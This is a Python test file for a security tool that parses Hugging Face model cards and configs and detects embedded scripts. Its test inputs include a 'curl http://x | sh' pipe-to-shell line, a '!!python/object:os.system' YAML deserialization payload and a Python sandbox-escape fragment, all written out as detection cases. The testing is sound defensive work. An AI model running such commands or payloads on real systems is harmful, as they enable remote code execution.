"""Cards and configurations of any shape give values or an input error, and stay linear."""
# ruff: noqa: E501

from __future__ import annotations

import contextlib
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secpipe.core.errors import InputError
from secpipe.formats import huggingface
from secpipe.formats.problem import script_sign

KEYS = ["model_type", "architectures", "auto_map", "text_config", "torch_dtype", "quantization_config", "r", "peft_type", "vocab_size",
        "base_model_name_or_path", "chat_template", "name", "template", "license", "base_model", "datasets", "model-index", "results",
        "metrics", "co2_eq_emissions", "max_position_embeddings"]  # fmt: skip
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=5),
    max_leaves=15,
)


@given(JSON)
def test_any_json_gives_a_value_or_an_input_error(value: object) -> None:
    data = json.dumps(value).encode()
    for reader in (huggingface.read_config, huggingface.read_adapter, huggingface.read_templates):
        with contextlib.suppress(InputError):
            reader(data)
    card = huggingface.read_card(b"---\n" + data + b"\n---\n# T\n")
    assert isinstance(card.metrics, tuple)
    assert isinstance(card.emissions, dict)
    assert all(isinstance(text, str) for key in KEYS for text in card.texts(key))


@pytest.mark.parametrize(
    "head", ["a: [", "a: 1\na: 2", "- x", "!!python/object:os.system {}", "a: &a [*a]", "x: " + "[" * 200]
)
def test_a_broken_head_is_a_problem_of_the_card(head: str) -> None:
    card = huggingface.read_card(f"---\n{head}\n---\n# Title\n## Uses\nText\n".encode())
    assert card.problems
    assert card.front == {}
    assert card.sections["uses"] == "Text"


@pytest.mark.parametrize("unit", ["curl x ", "\n", " ", "eval ", "# h\n", "import ", "<!--", "from a.b"])
def test_hostile_repetition_ends(unit: str) -> None:
    text = unit * (1_000_000 // len(unit))
    script_sign(text)
    huggingface.read_card(b"---\na: 1\n---\n" + text.encode())


def test_scripts_are_recognised_and_prose_is_not() -> None:
    for text in (
        "import os",
        "x = eval (y)",
        "curl http://x | sh",
        "#!/bin/sh",
        "a\n  from os import system",
        "().__class__.__subclasses__()",
    ):
        assert script_sign(text), text
    for text in ("a model from Acme for import and export of tickets", "Evaluate the sum", "curly hair | shell", "pt"):
        assert not script_sign(text), text
